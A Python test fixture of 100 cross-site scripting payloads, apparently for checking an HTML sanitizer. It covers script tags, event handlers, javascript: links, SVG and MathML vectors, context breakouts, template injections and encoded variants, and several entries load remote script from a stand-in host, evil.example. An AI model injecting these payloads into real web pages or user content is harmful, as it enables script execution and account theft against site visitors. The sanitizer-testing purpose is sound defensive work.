"""A hundred texts that want to be more than text. Whichever is let, calls `alert` or sets `__xss`.

One line each, as names are.
"""

ELEMENTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >window.__xss=1</script >",
    "<script/x>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js async></script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<template><script>alert(1)</script></template>",
    "<portal src=https://evil.example/></portal>",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=window.__xss=1 //",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror=alert`1`>",
    '<img """><img src=x onerror="alert(1)">',
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onpointerenter=alert(1) style=position:fixed;inset:0>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>",
    "<b tabindex=0 id=x onfocusin=alert(1)>",
    "<dialog open onclose=alert(1)><form method=dialog><button autofocus>",
    "<xss contenteditable autofocus onfocus=alert(1)>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "<a href=javascript:alert(1)>Անահիտ</a>",
    "<a href='java&#9;script:alert(1)'>Анаит</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>OK</button></form>",
    "<button form=x formaction=javascript:alert(1)>OK</button><form id=x>",
    "<a href=x ping=https://evil.example/>x</a>",
    "[Անահիտ](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "https://evil.example/?q=<script>alert(1)</script>",
    "tg://resolve?domain=evil",
)
DRAWINGS = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
)
BREAKS = (
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "';alert(1)//",
    '\\";alert(1)//',
)
TEMPLATES = (
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "<${'script'}>alert(1)<//>",
    "<%= alert(1) %>",
    '{"type":"img","props":{"src":"x","onerror":"alert(1)"}}',
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
)
SPELLINGS = (
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "＜img src=x onerror=alert(1)＞",
)
STYLES = (
    "<b style=background:url(javascript:alert(1))>Անահիտ</b>",
    "x:expression(alert(1));}*{background:red}",
)
HARMLESS = (
    "Անահիտ <img src=x onerror=alert(1)> Սարգսյան",
    "Բարև։<svg onload=alert(1)>՝՜",
    "__proto__",
)
PAYLOADS = (
    *(*ELEMENTS, *HANDLERS, *ADDRESSES, *DRAWINGS, *BREAKS),
    *(*TEMPLATES, *SPELLINGS, *STYLES, *HARMLESS),
)
assert len(set(PAYLOADS)) == 100
